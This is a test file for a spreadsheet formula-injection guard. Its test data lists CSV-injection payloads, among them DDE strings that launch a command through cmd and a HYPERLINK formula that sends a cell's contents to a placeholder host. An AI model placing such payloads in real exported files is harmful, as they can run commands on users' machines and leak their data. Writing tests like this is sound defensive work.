import assert from 'node:assert/strict';
import fc from 'fast-check';
import { runs } from '../../test/support/fuzz';
import { guarded, unguarded } from './formula';

describe('connectors/catalogue/formula', () => {
  it('guards what a spreadsheet would run, and nothing else', () => {
    for (const text of [
      '=1+1',
      '=HYPERLINK("http://x/?"&A1)',
      "=cmd|'/C calc'!A0",
      '+SUM(A1:A9)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1)',
      '\t=1',
      '\r=1',
      ' \n=1',
      '＝1',
    ])
      assert.equal(guarded(text), `'${text}`);
    for (const text of ['-12', '+97150', '@home', '007', "'", "'a", "5' board", '(1)', 'a=b', '', '-A-1', 'x|y!'])
      assert.equal(guarded(text), text);
  });

  it('any text comes back as it was, however often it goes there and back', () => {
    const unit = fc.constantFrom(
      "'",
      '=',
      '+',
      '-',
      '@',
      '(',
      '|',
      '!',
      '\t',
      '\r',
      '\n',
      ' ',
      'a',
      '1',
      '"',
      ',',
      '😀',
    );
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit, maxLength: 8 }), fc.string({ unit: 'binary' })), (text) => {
        assert.equal(unguarded(guarded(text)), text);
        assert.equal(unguarded(unguarded(guarded(guarded(text)))), text);
        assert.doesNotMatch(guarded(text), /^\s*=/);
      }),
      runs(1_000),
    );
  });
});
